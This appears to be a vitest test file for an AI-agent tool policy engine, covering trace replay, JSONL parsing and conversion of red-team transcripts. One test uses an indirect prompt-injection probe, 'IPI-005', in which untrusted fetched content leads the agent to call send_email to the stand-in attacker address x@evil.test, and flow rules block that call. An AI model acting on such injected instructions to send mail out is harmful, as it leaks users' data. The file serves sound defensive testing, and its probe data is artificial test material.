import { defaultPack, type ProbeMessage } from "@openaims/redteam";
import { describe, expect, it } from "vitest";
import { compileSource, examplePolicyYaml } from "./policy-test-fixtures.js";
import { traceFromRedteamTranscript } from "./redteam-trace.js";
import { replayTrace, type TraceEntry } from "./replay-trace.js";
import { parseTraceJsonl } from "./trace-jsonl.js";

const example = compileSource(examplePolicyYaml);
const stricter = compileSource(
  `${examplePolicyYaml.replace("lookup_order: allow", "lookup_order: allow\n  fetch_url: { untrusted: true }")}  - after_untrusted: true\n    deny: [send_email]\n`,
);

describe("replayTrace", () => {
  const trace: TraceEntry[] = [
    { session: "a", kind: "tool", name: "fetch_url", arguments: { url: "https://x.test" }, recorded: "allow" },
    { session: "a", kind: "tool", name: "send_email", arguments: { to: "x@y.test" }, recorded: "allow" },
    { session: "b", kind: "tool", name: "send_email", arguments: { to: "x@y.test" }, recorded: "allow" },
    { session: "b", kind: "tool", name: "inbox", arguments: {}, untrusted: true },
    { session: "b", kind: "tool", name: "send_email", arguments: { to: "x@y.test" }, recorded: "allow" },
    { session: "c", kind: "tool", name: "issue_refund", arguments: { amount: 500 }, recorded: "allow" },
  ];

  it("compares a draft with the recorded outcomes, session by session", () => {
    const result = replayTrace(example, null, trace);
    expect(result.steps.map((s) => [s.index, s.after.outcome, s.after.rule, s.changed])).toEqual([
      [0, "deny", "default", true],
      // The draft denies fetch_url, and a flow rule counts the attempt: send_email now waits for approval.
      [1, "approval_required", "flows[0]", true],
      [2, "allow", "tools.send_email", false],
      [4, "allow", "tools.send_email", false],
      [5, "deny", "tools.issue_refund.arguments.amount", true],
    ]);
    expect(result.counts).toEqual({
      steps: 5,
      sessions: 3,
      untrustedReads: 1,
      changed: 3,
      before: { allow: 5, deny: 0, approval_required: 0 },
      after: { allow: 2, deny: 2, approval_required: 1 },
    });
  });

  it("compares a draft with a baseline policy, each following its own decisions", () => {
    const result = replayTrace(stricter, example, trace);
    expect(result.steps.map((s) => [s.before?.outcome, s.after.outcome, s.after.rule])).toEqual([
      ["deny", "allow", "tools.fetch_url"],
      ["approval_required", "deny", "flows[1]"],
      ["allow", "allow", "tools.send_email"],
      ["allow", "deny", "flows[1]"],
      ["deny", "deny", "tools.issue_refund.arguments.amount"],
    ]);
    expect(result.counts.changed).toBe(3);
  });

  it("counts rate limits from the trace's times", () => {
    const limited = compileSource("tools:\n  ping: { rate: { per_minute: 2 } }\n");
    const at = (s: number) => new Date(Date.UTC(2026, 0, 1, 0, 0, s)).toISOString();
    const pings = [0, 10, 20, 70].map(
      (s): TraceEntry => ({ session: "a", kind: "tool", name: "ping", arguments: {}, at: at(s) }),
    );
    expect(replayTrace(limited, null, pings).steps.map((s) => s.after.outcome)).toEqual([
      "allow",
      "allow",
      "deny",
      "allow",
    ]);
  });
});

describe("parseTraceJsonl", () => {
  it("reads one entry per line and names the lines that are wrong", () => {
    const good = parseTraceJsonl(
      '{"session":"a","name":"send_email","arguments":{"to":"x"}}\n\n{"session":"a","kind":"resource","name":"file:///x"}\n',
    );
    expect(good).toEqual({
      ok: true,
      entries: [
        { session: "a", kind: "tool", name: "send_email", arguments: { to: "x" } },
        { session: "a", kind: "resource", name: "file:///x", arguments: {} },
      ],
    });
    const bad = parseTraceJsonl(
      '{"session":"a","name":"x"}\nnot json\n{"session":"a","name":"x","recorded":"maybe"}\n[]\n',
    );
    expect(bad.ok).toBe(false);
    if (bad.ok) return;
    expect(bad.errors.map((e) => e.line)).toEqual([2, 3, 4]);
    expect(bad.errors[1]?.message).toBe("recorded must be one of allow, deny, approval_required");
  });
});

/** The OpenAI wire form of a probe's conversation, as the scanner sends it. */
function wire(messages: readonly ProbeMessage[]) {
  return messages.map((m) => {
    if (m.role === "tool") return { role: "tool", tool_call_id: m.toolCallId, content: m.content };
    if (m.role === "assistant" && m.toolCalls) {
      return {
        role: "assistant",
        content: m.content,
        tool_calls: m.toolCalls.map((c) => ({
          id: c.id,
          type: "function",
          function: { name: c.name, arguments: JSON.stringify(c.arguments) },
        })),
      };
    }
    return { role: m.role, content: m.content };
  });
}

describe("traceFromRedteamTranscript", () => {
  const probe = defaultPack().pack.probes.find((p) => p.id === "IPI-005");
  if (!probe) throw new Error("IPI-005 is missing from the default pack");
  const history = wire(probe.messages);
  const reply = {
    role: "assistant",
    content: null,
    tool_calls: [{ id: "r1", type: "function", function: { name: "send_email", arguments: '{"to":"x@evil.test"}' } }],
  };
  const line = (turn: number, messages: unknown[], toolCalls: unknown[] | null) =>
    JSON.stringify({
      caseId: "IPI-005/plain",
      probeId: "IPI-005",
      variant: "plain",
      turn,
      startedAt: "2026-12-07T10:00:00.000Z",
      latencyMs: 5,
      attempts: 1,
      ok: true,
      truncated: false,
      request: JSON.stringify({ model: "m", messages }),
      response: "{}",
      reply: "",
      toolCalls,
      sha256: "0".repeat(64),
    });

  it("turns planted calls, untrusted results and the reply's calls into one session's entries", () => {
    const text = [
      line(0, history, [
        { id: "r1", name: "send_email", arguments: { to: "x@evil.test" }, result: { blocked: true, rule: "flows[0]" } },
      ]),
      line(
        1,
        [...history, reply, { role: "tool", tool_call_id: "r1", content: "sent" }, { role: "user", content: "thanks" }],
        [],
      ),
      line(0, history, null).replace("IPI-005/plain", "IPI-005/base64"),
    ].join("\n");
    const result = traceFromRedteamTranscript(text);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.entries.map((e) => [e.session, e.name, e.untrusted ?? false, e.recorded ?? null])).toEqual([
      ["IPI-005/plain", "fetch_url", false, "allow"],
      ["IPI-005/plain", "fetch_url", true, null],
      ["IPI-005/plain", "send_email", false, "deny"],
      ["IPI-005/base64", "fetch_url", false, "allow"],
      ["IPI-005/base64", "fetch_url", true, null],
    ]);
    expect(result.entries[2]?.arguments).toEqual({ to: "x@evil.test" });

    const replay = replayTrace(stricter, null, result.entries);
    expect(replay.steps.find((s) => s.call.name === "send_email")?.after).toMatchObject({
      outcome: "deny",
      rule: "flows[1]",
    });
  });

  it("marks results of tools named untrusted even when they look harmless, and names bad lines", () => {
    const plain = [
      ...history.slice(0, 3),
      { role: "tool", tool_call_id: "call_web_1", content: "<p>All tents are 20% off.</p>" },
    ];
    const harmless = traceFromRedteamTranscript(line(0, plain, []));
    expect(harmless.ok && harmless.entries.filter((e) => e.untrusted)).toEqual([]);
    const named = traceFromRedteamTranscript(line(0, plain, []), { untrustedTools: ["fetch_url"] });
    expect(named.ok && named.entries.filter((e) => e.untrusted).map((e) => e.name)).toEqual(["fetch_url"]);
    const broken = traceFromRedteamTranscript(`${line(0, plain, [])}\n{"turn":1}\n`);
    expect(broken).toEqual({ ok: false, errors: [{ line: 2, message: "has no caseId" }] });
  });

  it("records a reply's call as denied when the next request answers it with a policy's refusal", () => {
    const blocked = {
      role: "tool",
      tool_call_id: "r1",
      content: JSON.stringify({
        content: [{ type: "text", text: "Blocked by policy: send_email comes after fetch_url (rule flows[0])" }],
        _meta: { "openaims/decision": { outcome: "deny", rule: "flows[0]", reason: "…" } },
      }),
    };
    const text = [
      line(0, history, [{ id: "r1", name: "send_email", arguments: { to: "x@evil.test" } }]),
      line(1, [...history, reply, blocked], []),
    ].join("\n");
    const result = traceFromRedteamTranscript(text);
    expect(result.ok && result.entries.map((e) => [e.name, e.untrusted ?? false, e.recorded ?? null])).toEqual([
      ["fetch_url", false, "allow"],
      ["fetch_url", true, null],
      ["send_email", false, "deny"],
    ]);
  });
});
